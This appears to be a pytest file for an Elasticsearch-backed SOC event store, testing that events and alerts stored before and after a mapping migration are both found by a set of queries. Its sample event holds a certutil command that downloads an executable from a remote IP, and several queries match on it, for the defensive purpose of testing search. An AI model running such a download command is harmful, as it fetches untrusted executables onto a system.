"""A real change of the mapping: what version 1 stored and what is stored since are both found."""

from datetime import UTC, datetime

import pytest

from soc.model.event import Event
from soc.model.time import now
from soc.store.elastic import ElasticStore
from soc.store.query import parse
from tests.elastic.cluster import Cluster
from tests.elastic.test_robust import drained
from tests.soc.store.elastic.test_templates import of_version_1

pytestmark = [pytest.mark.elastic, pytest.mark.slow]
NOON = datetime(2026, 11, 22, 12, tzinfo=UTC)
COMMAND = "CERTUTIL.exe -urlcache -f http://203.0.113.9/a.exe"
INDEX_OF_1 = {
    "names": [
        "winlog",
        "winlog.event_data",
        "winlog.event_data.CommandLine",
        "winlog.event_data.LogonType",
        "winlog.event_data.OfNoRule",
    ],
    "tokens": [
        f"winlog.event_data.CommandLine={COMMAND.lower()}",
        "winlog.event_data.LogonType=3",
        "winlog.event_data.OfNoRule=rare",
    ],
    "words": [COMMAND, "3", "Rare"],
}
"""As version 1 wrote it beside these fields."""
FIELDS = {
    "winlog.event_data.CommandLine": COMMAND,
    "winlog.event_data.LogonType": "3",
    "winlog.event_data.OfNoRule": "Rare",
}
QUERIES = [
    "winlog.event_data.CommandLine:*urlcache*",
    "winlog.event_data.CommandLine:certutil*",
    f'winlog.event_data.CommandLine:"{COMMAND}"',
    "winlog.event_data.CommandLine:/cert.+exe/",
    "winlog.event_data.CommandLine:[c TO d]",
    "winlog.event_data.LogonType:(2 OR 3)",
    "NOT winlog.event_data.LogonType:2",
    "_exists_:winlog.event_data.CommandLine",
    "winlog.event_data.OfNoRule:rare",
    "urlcache",
]


def an_event(name: str) -> Event:
    known = {"@timestamp": "2026-11-22T12:00:00.000001Z", "event.id": name, "event.dataset": "test"}
    return known | FIELDS


def old_line(name: str) -> dict[str, object]:
    data = {key.rpartition(".")[2]: value for key, value in FIELDS.items()}
    return {
        "@timestamp": "2026-11-22T12:00:00.000001Z",
        "event": {"id": name, "dataset": "test"},
        "winlog": {"event_data": data},
        "soc.index": INDEX_OF_1,
    }


@pytest.fixture
def older(cluster: Cluster, store: ElasticStore, place: str) -> ElasticStore:
    """A store whose stream and month of alerts version 1 began and wrote to."""
    stream, month = f"logs-soc.test-{place}", f"soc-alerts-{place}-2026.11"
    template = {"index_patterns": [stream], "priority": 900, "data_stream": {}}
    cluster.ask(
        "PUT", f"/_index_template/{stream}", template | {"template": of_version_1(), "version": 1}
    )
    try:
        cluster.ask("PUT", f"/{stream}/_create/old?refresh=true", old_line("old"))
    finally:
        cluster.ask("DELETE", f"/_index_template/{stream}")
    cluster.ask("PUT", f"/{month}", of_version_1())
    alert = old_line("old") | {"soc": {"alert": {"id": "old"}}}
    cluster.ask("PUT", f"/{month}/_create/old?refresh=true", alert)
    return store


def foreign(cluster: Cluster, index: str, query: str) -> set[str]:
    """What a program finds that knows Elasticsearch and nothing of ours."""
    body = {"query": {"query_string": {"query": query, "analyze_wildcard": True}}}
    found = cluster.ask("POST", f"/{index}/_search", body)
    return {hit["_id"] for hit in found["hits"]["hits"]}


def test_both_are_found(cluster: Cluster, older: ElasticStore, place: str) -> None:
    stream, month = f"logs-soc.test-{place}", f"soc-alerts-{place}-2026.11"
    mapped = older.upkeep.migrate(now)
    assert len(mapped) == 2
    assert older.upkeep.migrate(now) == []
    assert older.append([an_event("new")], now=NOON)[0].outcome == "created"
    older.create_alerts([an_event("new") | {"soc.alert.id": "new"}])
    cluster.ask("POST", f"/{stream},{month}/_refresh")
    for query in QUERIES:
        found = {one["event.id"] for one in older.search(parse(query)).events}
        assert found == {"old", "new"}, query
        alerts = older.search(parse(query), collection="alerts").events
        assert {one["event.id"] for one in alerts} == {"old", "new"}, query
    assert older.get(["old", "new"]) == [an_event("old"), an_event("new")]
    assert [one["event.id"] for one in drained(older)] == ["old", "new"]
    for query in ("winlog.event_data.CommandLine:*URLCACHE*", "winlog.event_data.LogonType:3"):
        assert foreign(cluster, stream, query) == {"new"}
    assert foreign(cluster, stream, "soc.unmapped.winlog.event_data.OfNoRule:Rare") == {"new"}


def test_nodes_of_version_1_go_on_writing(
    cluster: Cluster, older: ElasticStore, place: str
) -> None:
    """The admin migrates first, the nodes are updated one by one."""
    older.upkeep.migrate(now)
    cluster.ask("PUT", f"/logs-soc.test-{place}/_create/late?refresh=true", old_line("late"))
    for query in QUERIES:
        found = {one["event.id"] for one in older.search(parse(query)).events}
        assert found == {"old", "late"}, query
    assert older.get(["late"]) == [an_event("late")]
